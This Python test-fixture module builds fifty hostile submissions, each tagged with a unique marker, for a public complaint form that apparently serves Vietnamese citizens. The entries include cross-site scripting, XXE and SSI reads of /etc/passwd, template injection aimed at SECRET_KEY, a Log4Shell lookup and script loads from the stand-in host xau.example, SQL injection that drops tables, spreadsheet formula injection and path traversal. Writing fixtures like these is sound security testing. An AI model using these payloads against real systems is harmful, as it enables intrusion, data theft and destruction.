"""What strangers try with the public form: fifty sendings, each with a word by which it would be known in public."""

from __future__ import annotations

MARK = "lacmoi"


def mark_of(number: int) -> str:
    return f"{MARK}{number:02}x"


# What each tries, by the field into which it is written; `@` is where the word stands.
TRIED: tuple[tuple[str, str], ...] = (
    ("text", "<script>alert('@')</script>"),
    ("text", "<ScRiPt src=//xau.example/@.js></sCrIpT>"),
    ("text", "<img src=x onerror=alert('@')>"),
    ("text", "<svg/onload=alert('@')>"),
    ("text", "<iframe srcdoc='<script>alert(`@`)</script>'></iframe>"),
    ("text", "<body onload=alert('@')>"),
    ("text", "<a href='javascript:alert(`@`)'>bấm vào đây</a>"),
    ("text", "<a href='data:text/html;base64,PHNjcmlwdD4='>@</a>"),
    ("text", "<form action='https://xau.example/@'><input name='mat-khau'></form>"),
    ("text", "<meta http-equiv='refresh' content='0;url=https://xau.example/@'>"),
    ("text", "<base href='https://xau.example/@/'>"),
    ("text", "<link rel='stylesheet' href='https://xau.example/@.css'>"),
    ("text", "<style>body{background:url(https://xau.example/@)}</style>"),
    ("text", "<math><mtext></form><form><mglyph><style></math><img src=x onerror=@>"),
    ("text", "</textarea><script>@()</script><textarea>"),
    ("text", "</title><script>@()</script>"),
    ("text", "--><script>@()</script><!--"),
    ("text", "]]><script>@()</script><![CDATA["),
    ("text", "<!--#exec cmd='cat /etc/passwd' --> @"),
    ("text", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;@</x>"),
    ("text", "<?php system('@'); ?>"),
    ("text", "{{ settings.SECRET_KEY }} @"),
    ("text", "{% include '/etc/passwd' %} @"),
    ("text", "${jndi:ldap://xau.example/@}"),
    ("text", "%(password)s %s {0.__class__.__mro__} @"),
    ("text", "'; DROP TABLE accountability_citizencase; -- @"),
    ("text", "' OR '1'='1' UNION SELECT password FROM boards_user -- @"),
    ("text", "$$; SELECT pg_sleep(9); $$ @"),
    ("text", "=HYPERLINK(\"https://xau.example/@\";\"Trúng thưởng\")"),
    ("text", "=cmd|' /C calc'!A0 @"),
    ("text", "@SUM(1+1)*cmd|' /C calc'!A0 @"),
    ("text", "[bấm vào đây](javascript:alert('@'))"),
    ("text", "[url=https://xau.example/@]trúng thưởng[/url]"),
    ("text", "Trúng thưởng tại https://xau.example/@ hãy đăng nhập"),
    ("text", "https://chinhphu.vn@xau.example/@"),
    ("text", "http://хаu.example/@ giả tên miền"),
    ("text", "Vay nóng 0900 000 000, kết bạn zalo @"),
    ("text", "Cược bóng đá, nổ hũ, tài xỉu @ uy tín"),
    ("text", "\u202egnưởht gnúrt\u202c @"),
    ("text", "l\u200bạ\u200bc\u2060 @"),
    ("text", "\ufeff\ufffe @ \x0b\x0c"),
    ("text", "@ " + "đòi " * 2_000),
    ("subject", "<script>alert('@')</script>"),
    ("subject", "Bcc: nan-nhan@example.com @"),
    ("person_name", "<img src=x onerror=alert('@')>"),
    ("person_name", "=cmd|' /C calc'!A0 @"),
    ("phone", "09000000<script>@</script>"),
    ("phone", "' OR 1=1 0900000 @"),
    ("address", "{{ 7*7 }} <b>@</b>"),
    ("address", "../../../../etc/passwd @"),
)  # fmt: skip


def sending(number: int) -> dict[str, str]:
    """What the form is sent for one of them: its word stands in what is tried, and in the words around it."""
    field, tried = TRIED[number]
    mark = mark_of(number)
    around = {"subject": f"Chuyện {mark}", "text": f"Việc {mark} ở thôn {number}, bao giờ xong?"}
    return around | {field: tried.replace("@", mark)}
